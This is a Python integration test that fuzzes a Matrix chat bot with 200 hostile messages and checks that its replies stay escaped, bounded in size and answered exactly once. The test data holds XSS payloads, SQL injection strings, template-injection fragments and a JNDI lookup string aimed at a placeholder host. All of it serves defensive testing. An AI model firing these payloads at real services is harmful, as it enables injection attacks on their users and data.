"""Hostile input on the real homeserver: 200 random and malicious messages.

Control characters, a 60 KB text, HTML and script tags, right-to-left and zero-width
marks, unmatched quotes, huge numbers, SQL and template fragments, emoji, 10,000 quotes;
as commands and as plain chat, from a coordinator and from a department member, at a
realistic pace. Afterwards: every command got exactly one answer (an m.notice in reply
to it), plain chat and m.notice got none, no event the bot sent is over 64 KiB, no
formatted_body carries unescaped user text, and the bot still answers and still writes
to its database.

A bot of its own (bot_factory), so that the hostile commands cannot touch the themes of
the other tests.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import random
import re
import time
import uuid
from dataclasses import dataclass

import pytest
from nio import RoomSendResponse

from bot.demo.scripted_user import Received, ScriptedUser
from bot.matrix.events import REMINDER_MARKER
from bot.router import command_text
from tests.integration.conftest import Accounts
from tests.unit.test_fuzz_router import check_html

pytestmark = pytest.mark.integration

MESSAGES = 200
EVENT_LIMIT = 65_536  # bytes of the whole event, as Matrix counts them
PACE_SECONDS = 0.03  # between two sends: quick typing, well within the raised rate limits
SEED = 20_261_126

SETUP = (
    "!zt neu Mobilität 15.04.2027",
    "!zt neu Digitale Ethik KW 15/2027",
    "!zt neu Regenwasser Q4/2027",
)

# (text, msgtype): every kind of hostile input named in issue 6, once at least.
FIXED: tuple[tuple[str, str], ...] = (
    # a 60 KB text, as a command and as chat (just under the homeserver's 64 KiB per event)
    ("!zt " + "A" * 59_996, "m.text"),
    ("!zt status " + "ä" * 29_000, "m.text"),
    ("B" * 60_000, "m.text"),
    # 10,000 repeated quotes
    ("!zt status " + '"' * 10_000, "m.text"),
    ("!zt neu " + "„" * 10_000 + " 15.04.2027", "m.text"),
    ('"' * 10_000, "m.text"),
    # just under and over the router's command length
    ("!zt neu " + "x" * 3_980 + " 15.04.2027", "m.text"),
    ("!zt erledigt Mobilität 2 " + "Notiz " * 700, "m.text"),
    # control characters
    ("!zt status \x00\x01\x02\x1b[31mMobilität\x1b[0m", "m.text"),
    ("!zt neu Mobi\x07\x08lität\x7f 15.04.2027", "m.text"),
    ("!zt\thilfe\r\n\x0b\x0c", "m.text"),
    ("\x00\x01\x02\x03\x1b[2J", "m.text"),
    ("!zt erledigt Mobilität 1 \x00\x85\u2028\u2029", "m.text"),
    # HTML and script tags
    ("!zt neu <script>alert(1)</script> 01.09.2027", "m.text"),
    ('!zt status <img src=x onerror="alert(1)">', "m.text"),
    ("!zt hilfe <script>alert('x')</script>", "m.text"),
    ("!zt <script>alert(1)</script>", "m.text"),
    ("!zt erledigt Mobilität 1 <b onmouseover=alert(1)>fett</b></p><h1>", "m.text"),
    ("!zt umbenennen Regenwasser <a href=javascript:alert(1)>klick</a>", "m.text"),
    ('!zt zuständig Mobilität 3 @evil:<script> "><svg onload=alert(1)>', "m.text"),
    ("<script>alert(1)</script>", "m.text"),
    ('<img src=x onerror="alert(1)">', "m.text"),
    # right-to-left and zero-width marks
    ("!zt status \u202eätilibom", "m.text"),
    ("!zt neu \u202eTeil\u202c\u200f 15.04.2027", "m.text"),
    ("\u202e!zt hilfe", "m.text"),  # not addressed to the bot: the mark comes first
    ("!zt\u200b hilfe", "m.text"),  # "!zt\u200b" is another bot's prefix
    ("!zt sta\u200btus", "m.text"),
    ("!zt status Mobi\u200dlität\ufeff", "m.text"),
    ("\u200b\u200c\u200d\ufeff", "m.text"),
    ("\u00a0!zt hilfe", "m.text"),  # leading Unicode space is stripped: a command
    # unmatched quotes
    ('!zt status "Mobilität', "m.text"),
    ("!zt neu „Smart City 01.01.2028", "m.text"),
    ("!zt erledigt “Digitale Ethik 1", "m.text"),
    ("!zt status »Regenwasser", "m.text"),
    ("!zt status '", "m.text"),
    # huge numbers
    ("!zt neu Zahl 99999999999999999999.1.2027", "m.text"),
    ("!zt neu Zahl KW 99999999999999999999/2027", "m.text"),
    ("!zt jahresplan 1" + "0" * 500, "m.text"),
    ("!zt termin Mobilität 6 " + "9" * 5_000, "m.text"),
    ("!zt verschieben Mobilität 1e999", "m.text"),
    ("!zt ratssitzung 31.02.2027", "m.text"),
    ("!zt hilfe 340282366920938463463374607431768211456", "m.text"),
    # SQL fragments
    ("!zt neu '; DROP TABLE theme; -- 01.10.2027", "m.text"),
    ("!zt status ' OR '1'='1", "m.text"),
    ('!zt löschen " OR 1=1 -- bestätigen', "m.text"),
    ("'; DROP TABLE theme; --", "m.text"),
    ("!zt erledigt Mobilität 1; DELETE FROM step", "m.text"),
    # template syntax, format strings
    ("!zt status {{ 7*7 }}", "m.text"),
    ("!zt neu {% for x in range(10**9) %} 15.04.2027", "m.text"),
    ("!zt status %s%s%s%n ${jndi:ldap://evil.example/a}", "m.text"),
    # emoji and combining marks
    ("!zt neu 🚲🙂👩‍👩‍👧‍👦🇩🇪 15.05.2027", "m.text"),
    ("!zt status Z\u0351\u0352\u0353\u0354\u0355\u0356" * 20, "m.text"),
    ("🙂" * 5_000, "m.text"),
    # commands as m.notice: the bot never answers a notice
    ("!zt hilfe", "m.notice"),
    ("!zt neu Notiz-Thema 15.04.2027", "m.notice"),
)

FRAGMENTS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</p>", "<b>", "&amp;", "&",
    "'; DROP TABLE theme; --", "' OR 1=1 --", "\\", "%", "{{ x }}",
    "\x00", "\x1b[31m", "\t", "\u202e", "\u200f", "\u200b", "\ufeff", "\u2028",
    '"', "„", "“", "”", "»", "'", "🙂", "🇩🇪", "e\u0301", "ß", "ẞ", "İ",
    "Mobilität", "mobilitaet", "Digitale Ethik", "DIGITALE", "Regenwasser", "Smart City",
    "1", "3a", "7", "99", "team", "buergerdialog", "entfernen", "bestätigen", "niemand",
    "15.04.2027", "2027-04-15", "KW 15/2027", "KW53 2027", "Q4/2027", "Q5/2027", "31.02.2027",
    "99999999999999999999", "-1", "0", "@anna:localhost",
)  # fmt: skip
VERBS = (
    "hilfe", "status", "themen", "neu", "verschieben", "erledigt", "offen", "überspringen",
    "termin", "zuständig", "raum", "ratssitzung", "jahresplan", "erinnerungen", "verlauf",
    "umbenennen", "pausieren", "fortsetzen", "archivieren", "löschen", "help", "NEU", "Done",
    "ueberspringen", "unbekannt", "<b>", "",
)  # fmt: skip


def random_message(rng: random.Random) -> str:
    words = [rng.choice(FRAGMENTS) for _ in range(rng.randint(0, 6))]
    joiners = (" ", " ", " ", "", "\u00a0", "\n")
    text = ""
    for word in words:
        text += rng.choice(joiners) + word
    if rng.random() < 0.65:
        return f"{rng.choice(('!zt', '!zt', '!ZT', ' !zt'))} {rng.choice(VERBS)}{text}"
    return text.strip() or rng.choice(FRAGMENTS)


def hostile_messages() -> list[tuple[str, str]]:
    rng = random.Random(SEED)
    messages = list(FIXED)
    while len(messages) < MESSAGES:
        messages.append((random_message(rng), "m.text"))
    rng.shuffle(messages)
    return messages


@dataclass(frozen=True)
class Sent:
    event_id: str
    text: str
    msgtype: str

    @property
    def is_command(self) -> bool:
        return self.msgtype == "m.text" and command_text(self.text, "!zt") is not None


def reply_target(received: Received) -> str | None:
    relates = received.content.get("content", {}).get("m.relates_to", {})
    return relates.get("m.in_reply_to", {}).get("event_id")


def describe(sent: Sent) -> str:
    text = sent.text if len(sent.text) <= 80 else f"{sent.text[:80]}… ({len(sent.text)} chars)"
    return f"{text!r} [{sent.msgtype}]"


async def test_two_hundred_hostile_messages(
    bot_factory, coordinator: ScriptedUser, member: ScriptedUser, accounts: Accounts
) -> None:
    started = time.monotonic()
    bot = await bot_factory()
    room_id = await coordinator.create_room(
        [bot.user_id, accounts.member.user_id], name="Feindliche Eingaben"
    )
    await coordinator.wait_for_member(room_id, bot.user_id)
    await member.client.join(room_id)
    await coordinator.wait_for_member(room_id, accounts.member.user_id)
    for text in SETUP:
        created = await coordinator.ask(room_id, text)
        assert "angelegt" in created.body, created.body

    # Send all 200 at a steady pace, a quarter of them from the department member.
    rng = random.Random(SEED + 1)
    sent: list[Sent] = []
    for text, msgtype in hostile_messages():
        user = member if rng.random() < 0.25 else coordinator
        sent.append(Sent(await user.send(room_id, text, msgtype), text, msgtype))
        await asyncio.sleep(PACE_SECONDS)
    assert len(sent) == MESSAGES
    commands = {s.event_id: s for s in sent if s.is_command}
    chat = {s.event_id: s for s in sent if not s.is_command}
    assert 90 <= len(commands) <= 160, (len(commands), len(chat))

    def from_bot() -> list[Received]:
        return [r for r in coordinator.received if r.room_id == room_id and r.sender == bot.user_id]

    def answered() -> set[str]:
        return {target for r in from_bot() if (target := reply_target(r)) in commands}

    try:
        await coordinator.wait_until(lambda: answered() >= commands.keys(), timeout=60)
    except TimeoutError:
        missing = [describe(commands[e]) for e in commands.keys() - answered()]
        pytest.fail(f"{len(missing)} commands got no answer within 60 s: {missing[:20]}")

    # The bot is alive: it still answers, and its database still reads and writes.
    help_reply = await coordinator.ask(room_id, "!zt hilfe")
    assert "!zt neu" in help_reply.body
    themes = await member.ask(room_id, "!zt themen")
    assert themes.body.startswith(("Themen (", "Noch keine Themen")), themes.body
    created = await coordinator.ask(room_id, "!zt neu Nach dem Sturm 15.10.2027")
    assert "angelegt" in created.body, created.body
    status = await member.ask(room_id, "!zt status nach dem sturm")
    assert "Zukunftstisch „Nach dem Sturm“" in status.body, status.body
    assert not bot.task.done(), "the bot's task ended"
    # A late second answer or an answer to chat would be here before the answers above.

    replies: dict[str, list[Received]] = {}
    max_event = 0
    for event in from_bot():
        source = event.content
        content = source["content"]
        size = len(json.dumps(source).encode())
        max_event = max(max_event, size)
        assert size <= EVENT_LIMIT, f"event of {size} bytes: {event.body[:200]!r}"
        assert content["msgtype"] == "m.notice", content["msgtype"]
        html = content.get("formatted_body", "")
        lowered = html.casefold()
        for needle in ("<script", "<img"):
            assert needle not in lowered, f"{needle} in formatted_body: {html[:300]!r}"
        # `onerror=` may be shown as escaped text, never inside a tag.
        for tag in re.findall(r"<[^>]*>", lowered):
            assert not re.search(r"\bon[a-z]+\s*=", tag), f"handler in a tag: {tag!r}"
        check_html(html)
        assert "Traceback" not in event.body
        target = reply_target(event)
        if target in chat:
            pytest.fail(f"answered plain chat or a notice: {describe(chat[target])}")
        if target in commands:
            replies.setdefault(target, []).append(event)
        elif target is None:
            assert REMINDER_MARKER in content, (
                f"a notice that is neither reply nor reminder: {content}"
            )

    twice = {e: len(r) for e, r in replies.items() if len(r) != 1}
    assert not twice, [f"{describe(commands[e])}: {n} answers" for e, n in twice.items()]
    internal = [
        describe(commands[e])
        for e, [r] in replies.items()
        if "ein technischer Fehler im Bot" in r.body
    ]
    assert not internal, f"internal errors for: {internal}"
    for event_id, [reply] in replies.items():
        assert reply.body.strip(), f"empty answer to {describe(commands[event_id])}"
        assert not reply.body.startswith("> <@"), "no quoted reply fallback"

    elapsed = time.monotonic() - started
    print(
        f"\nhostile run: {len(sent)} messages sent ({len(commands)} commands, {len(chat)} chat "
        f"or notices), {sum(len(r) for r in replies.values())} answers, {len(from_bot())} bot "
        f"events, largest {max_event} bytes, {elapsed:.1f} s"
    )


async def test_an_ambiguous_name_among_many_themes_is_answered(
    bot_factory, coordinator: ScriptedUser
) -> None:
    """Every command gets an answer, also when the answer names many themes: the refusal
    for an ambiguous name lists all of them and is not cut to the event limit, so the
    homeserver refuses the event and the command stays unanswered."""
    bot = await bot_factory()
    room_id = await coordinator.create_room([bot.user_id], name="Viele Themen")
    await coordinator.wait_for_member(room_id, bot.user_id)
    # The themes go in through the bot's own router (quicker than 150 round trips).
    for number in range(150):  # names that HTML escaping makes five times as long
        name = f"A{number:03d} " + "&" * 75
        text = f"!zt neu {name} 15.04.2027"
        outcome = bot.bot.router.handle(
            text, sender=coordinator.user_id, room_id=room_id, now=bot.bot.clock.now()
        )
        assert outcome is not None and outcome.result == "ok", outcome
    try:
        reply = await coordinator.ask(room_id, "!zt status A", timeout=10)
    except TimeoutError:
        pytest.fail("no answer to '!zt status A' within 10 s (see the log: M_TOO_LARGE?)")
    assert "passt auf mehrere Themen" in reply.body
    assert len(json.dumps(reply.content).encode()) <= EVENT_LIMIT


async def ask_with_content(
    user: ScriptedUser, room_id: str, content: dict, timeout: float = 10
) -> Received | None:
    """Send a hand-made m.room.message and wait for the bot's reply to it (None: none came)."""
    response = await user.client.room_send(
        room_id, "m.room.message", content, tx_id=uuid.uuid4().hex
    )
    assert isinstance(response, RoomSendResponse), response
    event_id = response.event_id

    def reply() -> Received | None:
        return next((r for r in user.received if reply_target(r) == event_id), None)

    with contextlib.suppress(TimeoutError):
        await user.wait_until(lambda: reply() is not None, timeout)
    return reply()


async def test_mentions_that_are_no_user_ids_are_not_taken(
    bot_factory, coordinator: ScriptedUser
) -> None:
    """m.mentions is whatever the client put there (Synapse checks only that it is a list
    of strings): the bot must not store and echo what is no Matrix user id (control and
    bidi characters, 6,000 characters each), nor answer with an event over 64 KiB."""
    bot = await bot_factory()
    room_id = await coordinator.create_room([bot.user_id], name="Falsche Erwähnungen")
    await coordinator.wait_for_member(room_id, bot.user_id)
    created = await coordinator.ask(room_id, "!zt neu Mobilität 15.04.2027")
    assert "angelegt" in created.body
    fake = [f"@{number}" + "&" * 6_000 for number in range(5)] + ["\u202e<script>x", "\x1f"]
    content = {
        "msgtype": "m.text",
        "body": "!zt zuständig Mobilität 1 @anna:localhost",
        "m.mentions": {"user_ids": fake},
    }
    reply = await ask_with_content(coordinator, room_id, content)
    assert reply is not None, "no answer (an event over 64 KiB is refused: M_TOO_LARGE)"
    assert len(json.dumps(reply.content).encode()) <= EVENT_LIMIT
    for text in (reply.body, reply.content["content"]["formatted_body"]):
        assert "&&&" not in text and "&amp;&amp;" not in text
        assert "\u202e" not in text and "\x1f" not in text
    assert "@anna:localhost" in reply.body
